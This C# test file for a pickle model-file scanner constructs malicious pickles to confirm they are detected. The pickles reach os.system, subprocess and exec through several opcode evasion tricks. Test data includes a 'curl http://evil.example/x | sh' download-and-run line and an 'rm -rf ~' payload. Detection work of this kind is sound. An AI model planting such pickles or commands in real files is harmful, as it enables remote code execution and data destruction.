using Bulwark.Core.Findings;
using Bulwark.Ml.ModelFiles.Pickle;

namespace Bulwark.Ml.Tests.ModelFiles.Pickle;

public sealed class PickleEvasionTests
{
    [Fact]
    public void Global_os_system_through_reduce_is_critical_and_shows_the_command()
    {
        var issue = ModelScanHarness.Scan(PickleWriter.OsSystem()).ForGlobal("os.system");

        issue.Rule.ShouldBe(PickleRules.DangerousGlobal);
        issue.Severity.ShouldBe(Severity.Critical);
        issue.Properties["opcode"].ShouldBe("REDUCE");
        issue.Location.Offset.ShouldBe(47);
        issue.Message.ShouldContain("calls os.system via REDUCE at offset 47");
        issue.Message.ShouldContain("'curl http://evil.example/x | sh'");
    }

    [Theory]
    [InlineData("posix", "system")]
    [InlineData("nt", "system")]
    [InlineData("__builtin__", "eval")]
    [InlineData("builtins", "__import__")]
    [InlineData("subprocess", "Popen")]
    [InlineData("subprocess", "check_output")]
    [InlineData("_pickle", "loads")]
    [InlineData("runpy", "_run_code")]
    [InlineData("numpy.testing._private.utils", "runstring")]
    [InlineData("torch.hub", "load")]
    public void Aliases_and_submodules_of_dangerous_modules_are_critical(string module, string name)
    {
        var bytes = new PickleWriter().Proto(2).CallGlobal(module, name, "id").Stop().ToArray();

        var issue = ModelScanHarness.Scan(bytes).ForGlobal($"{module}.{name}");

        issue.Rule.ShouldBe(PickleRules.DangerousGlobal);
        issue.Severity.ShouldBe(Severity.Critical);
    }

    [Fact]
    public void Stack_global_with_names_stored_in_the_memo_resolves()
    {
        var bytes = new PickleWriter().Proto(4)
            .Unicode("os").BinPut(0).Unicode("system").BinPut(1).Op(PickleOpcode.Pop).Op(PickleOpcode.Pop)
            .BinGet(0).BinGet(1).Op(PickleOpcode.StackGlobal)
            .Unicode("id").Tuple1().Reduce().Stop().ToArray();

        var issue = ModelScanHarness.Scan(bytes).ForGlobal("os.system");

        issue.Severity.ShouldBe(Severity.Critical);
        issue.Message.ShouldContain("via REDUCE");
    }

    [Fact]
    public void Stack_global_with_memoized_names_resolves()
    {
        var bytes = new PickleWriter().Proto(4)
            .Unicode("builtins").Memoize().Unicode("exec").Memoize().Op(PickleOpcode.Pop).Op(PickleOpcode.Pop)
            .BinGet(0).BinGet(1).Op(PickleOpcode.StackGlobal)
            .Unicode("import os; os.system('id')").Tuple1().Reduce().Stop().ToArray();

        ModelScanHarness.Scan(bytes).ForGlobal("builtins.exec").Message.ShouldContain("import os; os.system('id')");
    }

    [Fact]
    public void Inst_calls_its_class_with_the_marked_arguments()
    {
        var bytes = new PickleWriter().Mark().Text("S'id'\n").Op(PickleOpcode.Inst).Text("subprocess\ncheck_output\n").Stop().ToArray();

        var issue = ModelScanHarness.Scan(bytes).ForGlobal("subprocess.check_output");

        issue.Properties["opcode"].ShouldBe("INST");
        issue.Message.ShouldContain("('id',)");
    }

    [Fact]
    public void Obj_calls_the_first_marked_item()
    {
        var bytes = new PickleWriter().Proto(2).Mark().Global("os", "system").Unicode("id").Op(PickleOpcode.Obj).Stop().ToArray();

        ModelScanHarness.Scan(bytes).ForGlobal("os.system").Properties["opcode"].ShouldBe("OBJ");
    }

    [Fact]
    public void Newobj_ex_is_a_call()
    {
        var bytes = new PickleWriter().Proto(4).StackGlobal("subprocess", "Popen")
            .Unicode("id").Tuple1().Op(PickleOpcode.EmptyDict).Op(PickleOpcode.NewObjEx).Stop().ToArray();

        ModelScanHarness.Scan(bytes).ForGlobal("subprocess.Popen").Properties["opcode"].ShouldBe("NEWOBJ_EX");
    }

    [Fact]
    public void Build_that_plants_setstate_makes_the_next_build_a_call()
    {
        // obj = collections.OrderedDict(); obj.__dict__['__setstate__'] = os.system; BUILD('id') → os.system('id')
        var bytes = new PickleWriter().Proto(2)
            .Global("collections", "OrderedDict").Op(PickleOpcode.EmptyTuple).Reduce()
            .Op(PickleOpcode.EmptyDict).Unicode("__setstate__").Global("os", "system").Op(PickleOpcode.SetItem).Build()
            .Unicode("id").Build().Stop().ToArray();

        var context = ModelScanHarness.Scan(bytes);

        context.Single(PickleRules.AttributeOverride).Message.ShouldContain("__setstate__");
        var call = context.ForGlobal("os.system");
        call.Properties["opcode"].ShouldBe("BUILD (__setstate__)");
        call.Message.ShouldContain("('id',)");
    }

    [Fact]
    public void Build_on_a_global_itself_is_an_attribute_override()
    {
        var bytes = new PickleWriter().Proto(2).Global("collections", "OrderedDict")
            .Op(PickleOpcode.EmptyDict).Unicode("__init__").Unicode("x").Op(PickleOpcode.SetItem).Build().Stop().ToArray();

        ModelScanHarness.Scan(bytes).Single(PickleRules.AttributeOverride).Properties["global"].ShouldBe("collections.OrderedDict");
    }

    [Fact]
    public void Ext1_code_is_reported()
    {
        var bytes = new PickleWriter().Proto(2).Op(PickleOpcode.Ext1).Raw(7).Unicode("id").Tuple1().Reduce().Stop().ToArray();

        var context = ModelScanHarness.Scan(bytes);

        context.Single(PickleRules.ExtensionCode).Message.ShouldContain("extension code 7");
        context.Single(PickleRules.IndirectCall);
    }

    [Fact]
    public void Calling_a_persistent_object_is_an_indirect_call()
    {
        var bytes = new PickleWriter().Text("Pexploit\n").Text("(S'id'\ntR.").ToArray();

        var issue = ModelScanHarness.Scan(bytes).Single(PickleRules.IndirectCall);

        issue.Message.ShouldContain("persistent object 'exploit'");
        issue.Message.ShouldContain("'id'");
    }

    [Fact]
    public void Pickle_loads_of_embedded_bytes_scans_the_inner_pickle()
    {
        var inner = PickleWriter.OsSystem("rm -rf ~");
        var bytes = new PickleWriter().Proto(3).Global("_pickle", "loads").Bytes(inner).Tuple1().Reduce().Stop().ToArray();

        var context = ModelScanHarness.Scan(bytes);

        context.ForGlobal("_pickle.loads").Severity.ShouldBe(Severity.Critical);
        context.Single(PickleRules.Nested).Severity.ShouldBe(Severity.High);
        var hidden = context.ForGlobal("os.system");
        hidden.Location.Member.ShouldBe("embedded-pickle@49");
        hidden.Message.ShouldContain("rm -rf ~");
    }

    [Fact]
    public void A_malicious_pickle_stacked_after_a_benign_one_is_found()
    {
        var benign = new PickleWriter().Proto(2).Op(PickleOpcode.EmptyDict).Unicode("w").Int(1).Op(PickleOpcode.SetItem).Stop().ToArray();
        var bytes = benign.Concat(PickleWriter.OsSystem()).ToArray();

        var issue = ModelScanHarness.Scan(bytes).ForGlobal("os.system");

        issue.Location.Offset.ShouldBe(benign.Length + 47);
    }

    [Fact]
    public void Stacked_pickles_share_the_memo_like_one_unpickler()
    {
        var first = new PickleWriter().Proto(2).Unicode("os").BinPut(0).Op(PickleOpcode.Pop).Unicode("system").BinPut(1).Stop().ToArray();
        var second = new PickleWriter().Proto(4).BinGet(0).BinGet(1).Op(PickleOpcode.StackGlobal).Unicode("id").Tuple1().Reduce().Stop().ToArray();

        ModelScanHarness.Scan([.. first, .. second]).ForGlobal("os.system").Severity.ShouldBe(Severity.Critical);
    }

    [Fact]
    public void Protocol_0_int_is_parsed_like_cpython()
    {
        var bytes = "cos\nsystem\n(I0x10\nI01\ntR."u8.ToArray();

        var issue = ModelScanHarness.Scan(bytes).ForGlobal("os.system");

        issue.Properties["opcode"].ShouldBe("REDUCE");
        issue.Message.ShouldContain("with (16, True)");
    }

    [Fact]
    public void A_raw_pickle_named_pt_is_recognized_by_content()
    {
        ModelScanHarness.Scan(PickleWriter.OsSystem(), name: "weights.pt").ForGlobal("os.system").Location.File.ShouldBe("weights.pt");
    }

    [Fact]
    public void Stack_global_with_computed_names_is_reported()
    {
        var bytes = new PickleWriter().Proto(4)
            .CallGlobal("codecs", "decode", "bf").Unicode("flfgrz").Op(PickleOpcode.StackGlobal).Stop().ToArray();

        ModelScanHarness.Scan(bytes).Single(PickleRules.DynamicGlobal).Severity.ShouldBe(Severity.High);
    }
}
